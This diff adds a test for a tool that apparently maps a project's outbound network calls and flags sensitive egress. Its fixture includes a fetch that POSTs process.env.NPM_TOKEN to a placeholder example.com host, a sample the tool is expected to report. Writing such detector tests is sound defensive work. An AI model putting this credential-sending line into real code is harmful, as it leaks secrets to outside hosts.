@@ -71,6 +71,19 @@ describe('egress init', () => {
     ]);
   });
 
+  it('drafts the data that an API says is sent, with what names say besides, and no credentials', () => {
+    const send = (host: string, body: string): string => `void fetch('https://${host}.example.com/', { method: 'POST', body: JSON.stringify(${body}) });\n`;
+    const folder = project({
+      'package.json': '{}', 'wire.ts': "export const post = (url: string, body: unknown) => fetch(url, { method: 'POST', body: JSON.stringify(body) });\n",
+      'a.ts': `import os from 'node:os';\nimport { post } from './wire.ts';\ndeclare const customer: { email: string };\n${send('device.one', '{ host: os.hostname(), email: customer.email }')}${send('named.two', '{ email: customer.email }')}${send('secret.three', '{ token: process.env.NPM_TOKEN }')}void post('https://handed.four.example.com/', { host: os.hostname() });\n`,
+    });
+    egress(folder, ['init']);
+    expect(data(folder).endpoints).toMatchObject([{ match: ['device.one.example.com', 'handed.four.example.com', 'named.two.example.com', 'secret.three.example.com'], data: ['user.contact.email', 'user.device'], review: 'pending' }]);
+    expect(json(folder).findings.map(({ rule, file, line }) => `${rule} ${file}:${line}`)).toEqual(['no-sensitive-egress a.ts:6', 'manifest-complete egress.jsonc:2', 'manifest-complete egress.jsonc:13']);
+    writeFileSync(path.join(folder, 'egress.jsonc'), manifest());
+    expect(egress(folder, ['init']).out).toContain(' --data user.contact.email,user.device\n');
+  });
+
   it('drafts no host that is reported in any case', () => {
     const family = ['webhook', 'site'].join('.');
     const folder = project({ 'a.ts': `fetch('https://${family}/x');\n` });
